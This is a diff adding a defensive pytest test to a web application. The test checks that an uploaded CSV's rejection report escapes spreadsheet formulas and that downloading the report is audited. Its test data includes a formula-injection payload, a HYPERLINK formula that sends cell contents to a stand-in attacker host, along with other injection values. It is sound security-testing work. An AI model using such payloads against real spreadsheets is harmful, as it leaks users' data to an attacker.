@@ -4,6 +4,8 @@ incidents, the random floor, the performance page's figures, and access (another
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import uuid
 from pathlib import Path
@@ -392,3 +394,31 @@ def test_upload_errors_stay_on_the_form_and_a_seizure_left_unrecorded_can_be_reo
     # A filter submitted from a page answering a refused action goes to the worklist, not to the action's URL.
     r = client.post(f"/targeting/batches/{batch_id}/select", data={"csrf_token": token})
     assert r.status_code == 422 and f'action="/targeting/batches/{batch_id}" class="row" id="filters"' in r.text
+
+
+def test_the_rejection_report_is_audited_and_no_cell_is_a_formula(
+    client: TestClient, world: World, tmp_path: Path
+) -> None:
+    """The report repeats what the uploaded file said (record ids, values in the reasons): never a live formula
+    in the spreadsheet that opens it, and downloading it is an export like any other (audited)."""
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
+    token = login(client)
+    r = upload(
+        client, token, write(tmp_path / "m.csv", [*GOOD, row(evil, hs_code="@SUM(1+1)"), row("-1+cmd", date="x")])
+    )
+    assert r.status_code == 303, r.text
+    batch_id = uuid.UUID(r.headers["location"].split("/batches/")[1].split("?")[0])
+    with world.session() as s:
+        mark = s.scalar(select(AuditEntry.seq).order_by(AuditEntry.seq.desc()).limit(1))
+    report = client.get(f"/targeting/batches/{batch_id}/rejections.csv")
+    assert report.status_code == 200
+    cells = [c for line in csv.reader(io.StringIO(report.text)) for c in line]
+    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    assert [c for c in cells if c.startswith(starts)] == []
+    assert "'" + evil in cells and "'-1+cmd" in cells
+    with world.session() as s:
+        got = list(s.scalars(select(AuditEntry).where(AuditEntry.seq > mark)))
+        entries = [(e.action, e.actor_username, e.object_id, e.after) for e in got]
+    assert entries == [
+        ("targeting.export_rejections", "officer.hp", str(batch_id), {"format": "csv", "rows": len(cells) // 5 - 1})
+    ]
